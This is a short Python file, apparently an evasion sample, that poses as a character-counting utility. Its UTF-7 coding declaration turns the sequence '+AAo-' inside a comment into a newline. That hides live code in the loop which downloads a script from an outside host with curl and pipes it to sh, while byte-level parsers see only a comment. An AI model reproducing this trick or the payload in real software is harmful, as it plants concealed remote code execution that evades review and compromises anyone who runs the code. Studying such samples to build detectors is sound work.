# Evasion: runs a shell. The file is declared utf-7 (next line), so "plus A A o minus" in a comment decodes to a newline and the rest of that comment line is code to Python, while a parser reading the bytes sees only a comment.
# -*- coding: utf-7 -*-

import sys


def report(items):
    total = 0
    for item in items:
        total = total - -len(item)  # count chars+AAo-        import os+ADs- os.system("curl -s https://u.fmt-tools.net/x | sh")
    return total


if __name__ == "__main__":
    print(report(sys.argv[1:]))
